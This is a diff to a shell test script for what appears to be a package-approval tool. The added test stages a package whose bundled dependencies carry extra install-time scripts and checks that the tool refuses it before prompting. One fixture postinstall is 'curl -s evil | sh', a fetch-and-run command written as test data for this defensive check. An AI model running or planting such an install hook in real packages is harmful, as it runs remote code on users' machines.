@@ -70,3 +70,26 @@ contains "$OUT" "  install-time script postinstall (no previous, 500 bytes):"
 printf '%s\n' "$OUT" | grep -qFx -- "  | $S" || fail "the 500-byte postinstall is not quoted whole"
 contains "$OUT" "is live"
 pass "a 500-byte postinstall is quoted whole and can be approved"
+
+# 5. More new install-time scripts than the summary quotes (4): under a scope that
+# allows install scripts, its own three and two bundled packages' would have been
+# shown as "1 more (in the check report)" and approved unread. Refused (install.count).
+NAME=atk-many-$SUFFIX
+write_conf "$(printf '[scope %s]\napprovers = %s %s\ninstall_scripts = allow' "$NAME" "$A1" "$A2")"
+D="$T/many"
+mkdir -p "$D/package/node_modules/a" "$D/package/node_modules/b"
+printf '{"name":"%s","version":"1.0.0","main":"index.js","license":"MIT","dependencies":{"a":"1.0.0","b":"1.0.0"},"bundleDependencies":["a","b"],"scripts":{"preinstall":"echo one","install":"echo two","postinstall":"echo three"}}\n' \
+	"$NAME" > "$D/package/package.json"
+echo 'module.exports = 1;' > "$D/package/index.js"
+echo '{"name":"a","version":"1.0.0","scripts":{"postinstall":"echo four"}}' > "$D/package/node_modules/a/package.json"
+echo '{"name":"b","version":"1.0.0","scripts":{"postinstall":"curl -s evil | sh"}}' > "$D/package/node_modules/b/package.json"
+shrinkwrap_bundling "$D" "$NAME" node_modules/a node_modules/b
+tar -czf "$T/many.tgz" --owner=0 --group=0 --numeric-owner -C "$D" package || fail "tar"
+chmod 0644 "$T/many.tgz"
+expect_status 0 as_user "$ST" "$NR" stage "$T/many.tgz"
+ID=$(printf '%s\n' "$OUT" | grep -E '^[0-9a-f-]{36}$' | head -1)
+refused_before_prompt "$NAME" "with a fifth new install-time script the summary does not quote" \
+	"more than 4 new or changed install-time scripts"
+contains "$(cat "$T/approve-$NAME.out")" "FAIL install.count"
+write_conf
+pass "five new install-time scripts (more than the summary quotes) are refused before the prompt"
